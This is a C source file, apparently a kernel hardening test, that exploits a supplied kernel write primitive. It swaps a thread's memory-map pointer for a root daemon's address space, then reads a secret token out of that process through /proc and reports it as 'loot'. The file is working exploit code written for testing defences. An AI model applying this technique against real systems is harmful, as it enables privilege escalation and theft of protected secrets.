// SPDX-License-Identifier: GPL-2.0-only
/*
 * Exchange the pointer from a thread of the attacker to its address space for
 * one to that of a root daemon, and open the memory of the thread as a file.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <unistd.h>

#include "common.h"

/* A thread that sleeps: nobody needs its address space meanwhile. */
#define THREAD	(CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD)

int main(int argc, char **argv)
{
	int pid = parse_number(argc > 1 ? argv[1] : NULL);
	u64 victim = parse_number(argc > 2 ? argv[2] : NULL);
	int thread = keep_for_ever(THREAD), memory;
	struct kpkeys_vuln_task mine = vuln_task(thread);
	char path[64], token[TOKEN_LEN];

	snprintf(path, sizeof(path), "/proc/self/task/%d/mem", thread);
	vuln_write(mine.pointer, vuln_task(pid).mm);
	memory = open(path, O_RDONLY);
	vuln_write(mine.pointer, mine.mm);
	if (memory < 0)
		die_errno(path);
	if (pread(memory, token, TOKEN_LEN, victim) != TOKEN_LEN ||
	    !is_token(token))
		out_of_reach("the thread has the address space that it had");
	report_loot(token);
	return 0;
}
